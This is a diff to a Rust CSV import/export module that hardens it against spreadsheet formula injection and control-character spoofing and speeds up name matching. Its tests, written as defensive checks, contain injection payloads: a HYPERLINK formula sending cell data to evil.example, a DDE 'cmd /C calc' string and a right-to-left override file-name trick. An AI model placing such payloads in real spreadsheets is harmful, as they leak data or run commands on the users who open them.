@@ -3,7 +3,11 @@
 //! case and surrounding spaces) into an existing plan and reports what did not match; a
 //! malformed file changes nothing. Pure.
 
+use crate::model::limits::thousands;
+use crate::model::text::export_line;
 use crate::model::{Plan, Score};
+use std::borrow::Cow;
+use std::collections::{HashMap, HashSet};
 use std::fmt;
 
 #[derive(Clone, Debug, PartialEq)]
@@ -22,22 +26,80 @@ impl fmt::Display for CsvError {
 #[derive(Clone, Debug, Default, PartialEq)]
 pub struct CsvReport {
     pub updated_scores: usize,
+    /// The first [`SHOWN_UNMATCHED`] names that matched nothing, in file order.
     pub unmatched: Vec<String>,
+    /// How many names matched nothing, shown or not.
+    pub unmatched_count: usize,
 }
 
+/// Unmatched names listed by name; the rest are counted.
+pub const SHOWN_UNMATCHED: usize = 20;
+
+impl CsvReport {
+    fn not_matched(&mut self, what: String) {
+        if self.unmatched.len() < SHOWN_UNMATCHED {
+            self.unmatched.push(what);
+        }
+        self.unmatched_count += 1;
+    }
+
+    /// "Imported 12 scores from “file.csv”. Not matched: …, and 480 more."
+    pub fn summary(&self, file: &str) -> String {
+        let mut text = format!("Imported {} scores from “{file}”.", self.updated_scores);
+        if !self.unmatched.is_empty() {
+            text.push_str(" Not matched: ");
+            text.push_str(&self.unmatched.join("; "));
+            let more = self.unmatched_count.saturating_sub(self.unmatched.len());
+            if more > 0 {
+                text.push_str(&format!("; and {} more", thousands(more)));
+            }
+            text.push('.');
+        }
+        text
+    }
+}
+
+/// What a spreadsheet program reads as the start of a formula: `=`, `+`, `-`, `@` (and
+/// their full-width forms, which some programs convert).
+fn starts_formula(field: &str) -> bool {
+    field
+        .trim_start()
+        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+/// One text cell. Control and direction characters are dropped (line breaks and tabs
+/// become spaces). A cell a spreadsheet would evaluate gets a leading `'`, as OWASP
+/// advises for CSV injection: quotes alone do not stop LibreOffice or Excel from running
+/// `=HYPERLINK(…)`. Then RFC 4180 quoting where needed.
 pub(crate) fn quote(field: &str) -> String {
-    if field.contains([',', '"', '\n', '\r']) || field.starts_with(['=', '+', '-', '@']) {
-        // Quoting also keeps spreadsheet programs from reading a name as a formula.
+    let field = export_line(field);
+    let field = if starts_formula(&field) {
+        Cow::Owned(format!("'{field}"))
+    } else {
+        field
+    };
+    if field.contains([',', '"']) || field.starts_with(' ') || field.ends_with(' ') {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_string()
+        field.into_owned()
     }
+}
+
+/// A name as the import compares it: what [`quote`] wrote, without the `'` it may have
+/// added, ignoring case and surrounding spaces.
+fn key(name: &str) -> String {
+    let name = export_line(name);
+    let name = match name.strip_prefix('\'') {
+        Some(rest) if starts_formula(rest) => rest,
+        _ => &name,
+    };
+    name.trim().to_lowercase()
 }
 
 pub(crate) fn number(v: f64) -> String {
     let s = format!("{v:.4}");
     let s = s.trim_end_matches('0').trim_end_matches('.');
-    if s.is_empty() || s == "-" {
+    if s.is_empty() || s == "-" || s == "-0" {
         "0".into()
     } else {
         s.to_string()
@@ -130,11 +192,8 @@ fn parse(text: &str) -> Result<Vec<(usize, Vec<String>)>, CsvError> {
     Ok(rows)
 }
 
-fn same(a: &str, b: &str) -> bool {
-    a.trim().to_lowercase() == b.trim().to_lowercase()
-}
-
-/// Reads scores from `text` into `plan`. On any error the plan is left unchanged.
+/// Reads scores from `text` into `plan`. On any error the plan is left unchanged. The
+/// work is linear in the size of the file: names are looked up in hash maps.
 pub fn import(plan: &mut Plan, text: &str) -> Result<CsvReport, CsvError> {
     if text.len() > 20 * 1024 * 1024 {
         return Err(CsvError {
@@ -149,7 +208,7 @@ pub fn import(plan: &mut Plan, text: &str) -> Result<CsvReport, CsvError> {
             message: "the file is empty".into(),
         });
     };
-    if header.len() < 2 || !same(&header[0], "issue") || !same(&header[1], "option") {
+    if header.len() < 2 || key(&header[0]) != "issue" || key(&header[1]) != "option" {
         return Err(CsvError {
             line: 1,
             message: "the first row should start with the columns issue,option".into(),
@@ -157,56 +216,76 @@ pub fn import(plan: &mut Plan, text: &str) -> Result<CsvReport, CsvError> {
     }
     let mut report = CsvReport::default();
     // Columns "<party> weight" / "<party> rating" → (party index, is_weight).
+    let mut parties: HashMap<String, usize> = HashMap::new();
+    for (k, p) in plan.parties.iter().enumerate().rev() {
+        parties.insert(key(&p.name), k);
+    }
     let mut columns = Vec::new();
+    let mut unknown_parties = HashSet::new();
     for (c, name) in header.iter().enumerate().skip(2) {
-        let lower = name.trim().to_lowercase();
+        let lower = key(name);
         let (party_name, is_weight) = if let Some(p) = lower.strip_suffix(" weight") {
-            (p.to_string(), true)
+            (p.trim_end(), true)
         } else if let Some(p) = lower.strip_suffix(" rating") {
-            (p.to_string(), false)
+            (p.trim_end(), false)
         } else {
             return Err(CsvError {
                 line: 1,
                 message: format!(
-                    "column {} (“{name}”) should end in “weight” or “rating”",
-                    c + 1
+                    "column {} (“{}”) should end in “weight” or “rating”",
+                    c + 1,
+                    export_line(name)
                 ),
             });
         };
-        match plan.parties.iter().position(|p| same(&p.name, &party_name)) {
-            Some(k) => columns.push(Some((k, is_weight))),
+        match parties.get(party_name) {
+            Some(&k) => columns.push(Some((k, is_weight))),
             None => {
-                let msg = format!("party “{}” (column {})", name.trim(), c + 1);
-                if !report.unmatched.contains(&msg) {
-                    report.unmatched.push(msg);
+                if unknown_parties.insert(lower.clone()) {
+                    report.not_matched(format!(
+                        "party “{}” (column {})",
+                        export_line(name).trim(),
+                        c + 1
+                    ));
                 }
                 columns.push(None)
             }
         }
     }
     let mut updated = plan.clone();
+    // The first issue of each name, and within it the first option of each label.
+    let mut issues: HashMap<String, (usize, HashMap<String, usize>)> = HashMap::new();
+    for (i, issue) in updated.issues.iter().enumerate().rev() {
+        let mut options = HashMap::new();
+        for (o, option) in issue.options.iter().enumerate().rev() {
+            options.insert(key(&option.label), o);
+        }
+        issues.insert(key(&issue.name), (i, options));
+    }
     for (line, row) in body {
         let issue_name = row.first().map(String::as_str).unwrap_or("");
         let option_label = row.get(1).map(String::as_str).unwrap_or("");
-        let Some(issue) = updated.issues.iter().find(|i| same(&i.name, issue_name)) else {
-            report
-                .unmatched
-                .push(format!("issue “{issue_name}” (line {line})"));
+        let Some((i, options)) = issues.get(&key(issue_name)) else {
+            report.not_matched(format!("issue “{}” (line {line})", export_line(issue_name)));
             continue;
         };
-        let issue_id = issue.id.clone();
-        let Some(option) = issue.options.iter().find(|o| same(&o.label, option_label)) else {
-            report.unmatched.push(format!(
-                "option “{option_label}” of “{issue_name}” (line {line})"
+        let Some(&o) = options.get(&key(option_label)) else {
+            report.not_matched(format!(
+                "option “{}” of “{}” (line {line})",
+                export_line(option_label),
+                export_line(issue_name)
             ));
             continue;
         };
-        let option_id = option.id.clone();
-        for (c, target) in columns.iter().enumerate() {
-            let Some((k, is_weight)) = target else {
+        let issue_id = updated.issues[*i].id.clone();
+        let option_id = updated.issues[*i].options[o].id.clone();
+        // The row's own cells, not the header's width: a wide header with short rows
+        // must not cost rows × columns.
+        for (c, cell) in row.iter().skip(2).enumerate() {
+            let Some(Some((k, is_weight))) = columns.get(c) else {
                 continue;
             };
-            let cell = row.get(c + 2).map(|s| s.trim()).unwrap_or("");
+            let cell = cell.trim();
             if cell.is_empty() {
                 continue;
             }
@@ -216,7 +295,11 @@ pub fn import(plan: &mut Plan, text: &str) -> Result<CsvReport, CsvError> {
                 .filter(|v: &f64| v.is_finite())
                 .ok_or(CsvError {
                     line: *line,
-                    message: format!("“{cell}” in column {} is not a number", c + 3),
+                    message: format!(
+                        "“{}” in column {} is not a number",
+                        export_line(cell),
+                        c + 3
+                    ),
                 })?;
             if !(0.0..=100.0).contains(&value) {
                 return Err(CsvError {
@@ -245,6 +328,22 @@ pub fn import(plan: &mut Plan, text: &str) -> Result<CsvReport, CsvError> {
     }
     *plan = updated;
     Ok(report)
+}
+
+/// The cells a spreadsheet would evaluate: the first character after any spaces is a
+/// formula character, or the cell starts with a TAB or CR (which programs skip). For tests
+/// of every CSV the app writes.
+#[cfg(test)]
+pub(crate) fn live_cells(csv: &str) -> Vec<String> {
+    let mut live = Vec::new();
+    for (_, row) in parse(csv).unwrap() {
+        for cell in row {
+            if cell.starts_with(['\t', '\r']) || starts_formula(&cell) {
+                live.push(cell);
+            }
+        }
+    }
+    live
 }
 
 #[cfg(test)]
@@ -314,8 +413,61 @@ mod tests {
         let mut p = plan();
         p.issues[0].name = "=HYPERLINK(\"x\"), \"quoted\"".into();
         let text = export(&p);
-        assert!(text.contains("\"=HYPERLINK(\"\"x\"\"), \"\"quoted\"\"\""));
+        assert!(text.contains("\"'=HYPERLINK(\"\"x\"\"), \"\"quoted\"\"\""));
         let report = import(&mut p.clone(), &text).unwrap();
         assert!(report.unmatched.is_empty());
+    }
+
+    #[test]
+    fn no_name_becomes_a_live_formula_and_every_name_still_matches() {
+        for lead in [
+            "=", "+", "-", "@", "\t", "\r", " =", "\t=", "\r\n+", "＝", "\u{0}=",
+        ] {
+            let mut p = plan();
+            let name = format!("{lead}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")");
+            p.issues[0].name = name.clone();
+            p.issues[0].options[0].label = format!("{lead}1+1");
+            p.parties[0].name = format!("{lead}cmd|' /C calc'!A0");
+            let text = export(&p);
+            assert_eq!(live_cells(&text), Vec::<String>::new(), "{lead:?}: {text}");
+            // The protected names still match their plan on the way back in.
+            let report = import(&mut p.clone(), &text).unwrap();
+            assert_eq!(report.unmatched, Vec::<String>::new(), "{lead:?}");
+            assert_eq!(report.updated_scores, 12 * 4, "{lead:?}");
+        }
+    }
+
+    #[test]
+    fn control_and_direction_characters_never_reach_a_cell() {
+        let mut p = plan();
+        p.issues[0].name = "Sal\u{0}ary\u{7}\u{202E}gpj.exe\nnext".into();
+        let text = export(&p);
+        assert!(text.contains("\r\nSalarygpj.exe next,"), "{text}");
+        assert!(!text
+            .chars()
+            .any(|c| c.is_control() && c != '\r' && c != '\n'));
+        assert!(!text.contains('\u{202E}'));
+        assert_eq!(import(&mut p.clone(), &text).unwrap().unmatched_count, 0);
+    }
+
+    #[test]
+    fn unmatched_names_are_listed_up_to_twenty_with_a_count() {
+        let mut p = plan();
+        let mut text = String::from("issue,option,Dana (candidate) rating\n");
+        for k in 0..500 {
+            text.push_str(&format!("Nothing {k},x,1\n"));
+        }
+        let report = import(&mut p, &text).unwrap();
+        assert_eq!(report.unmatched.len(), SHOWN_UNMATCHED);
+        assert_eq!(report.unmatched_count, 500);
+        assert!(report.unmatched[19].contains("Nothing 19"));
+        let summary = report.summary("big.csv");
+        assert!(summary.ends_with("; and 480 more."), "{summary}");
+        assert!(summary.len() < 1_000, "{}", summary.len());
+        // Many columns of unknown parties: each is named once, and counted.
+        let header: Vec<String> = (0..1_000).map(|k| format!("P{k} rating")).collect();
+        let text = format!("issue,option,{},P0 rating\n", header.join(","));
+        let report = import(&mut plan(), &text).unwrap();
+        assert_eq!(report.unmatched_count, 1_000);
     }
 }
